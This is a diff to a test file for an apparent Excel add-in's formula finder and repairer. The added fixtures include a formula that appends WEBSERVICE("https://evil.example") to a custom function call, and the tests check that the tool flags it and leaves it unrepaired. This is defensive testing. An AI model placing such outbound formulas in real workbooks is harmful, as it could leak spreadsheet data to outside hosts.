@@ -15,6 +15,11 @@ function workbook(): WorkbookFile {
           [cellKey(2, 1), { value: unknown, formula: '_xldudf_ROI_PAYBACK(A1:A9)' }],
           [cellKey(3, 1), { value: unknown, formula: 'NOSUCH(1)' }],
           [cellKey(4, 1), { value: 'ROI.BASIC is described here' }],
+          [cellKey(5, 1), { value: unknown, formula: 'NOSUCH("ROI.BASIC(1,2)")' }],
+          [cellKey(6, 1), { value: unknown, formula: "'ROI.Notes'!A1+ROI.Notes!A1" }],
+          [cellKey(7, 1), { value: '=ROI.BASIC(1,2)' }],
+          [cellKey(8, 1), { value: 'x', formula: '_xldudf_ROI_LABEL("_xldudf_ROI_BASIC")' }],
+          [cellKey(9, 1), { value: unknown, formula: '_xldudf_ROI_BASIC(1,2)&WEBSERVICE("https://evil.example")' }],
         ]),
       },
       { name: 'Notes', cells: new Map([[cellKey(0, 0), { value: unknown, formula: '1+roi.npv2(B1)' }]]) },
@@ -26,25 +31,29 @@ function workbook(): WorkbookFile {
 describe('functionFormulas', () => {
   it('finds calls of our functions on every sheet, in any notation, and no others', async () => {
     expect(await functionFormulas(new MemoryWorkbookPort({ file: workbook() }))).toEqual([
-      { address: "'Cash flow'!B2", formula: '=ROI.BASIC(A1,A2)', unknown: false },
-      { address: "'Cash flow'!B3", formula: '=ROI.PAYBACK(A1:A9)', unknown: true },
-      { address: 'Notes!A1', formula: '=1+roi.npv2(B1)', unknown: true },
+      { address: "'Cash flow'!B2", formula: '=ROI.BASIC(A1,A2)', unknown: false, outside: [] },
+      { address: "'Cash flow'!B3", formula: '=ROI.PAYBACK(A1:A9)', unknown: true, outside: [] },
+      { address: "'Cash flow'!B9", formula: '=ROI.LABEL("_xldudf_ROI_BASIC")', unknown: false, outside: [] },
+      { address: "'Cash flow'!B10", formula: '=ROI.BASIC(1,2)&WEBSERVICE("https://evil.example")', unknown: true, outside: ['WEBSERVICE'] },
+      { address: 'Notes!A1', formula: '=1+roi.npv2(B1)', unknown: true, outside: [] },
     ]);
   });
 });
 
 describe('repairFunctionFormulas', () => {
-  it('enters again what shows #NAME?, leaves the rest, and recalculates once', async () => {
+  it('enters again what shows #NAME?, leaves the rest and what reaches outside, and recalculates once', async () => {
     const port = new MemoryWorkbookPort({ file: workbook() });
-    expect(await repairFunctionFormulas(port)).toBe(2);
+    expect(await repairFunctionFormulas(port)).toEqual({ repaired: 2, left: ["'Cash flow'!B10"] });
     expect(port.recalculations).toBe(1);
     const [{ formulas }] = await port.readRanges(["'Cash flow'!B2:B4"]);
     expect(formulas).toEqual([['=ROI.BASIC(A1,A2)'], ['=ROI.PAYBACK(A1:A9)'], ['=NOSUCH(1)']]);
+    const rest = await port.readRanges(["'Cash flow'!B6:B10"]);
+    expect(rest[0]!.formulas.flat().slice(2)).toEqual([{ text: '=ROI.BASIC(1,2)' }, '=_xldudf_ROI_LABEL("_xldudf_ROI_BASIC")', '=_xldudf_ROI_BASIC(1,2)&WEBSERVICE("https://evil.example")']);
   });
 
   it('does nothing where nothing is broken', async () => {
     const port = new MemoryWorkbookPort();
-    expect(await repairFunctionFormulas(port)).toBe(0);
+    expect(await repairFunctionFormulas(port)).toEqual({ repaired: 0, left: [] });
     expect(port.recalculations).toBe(0);
   });
 });
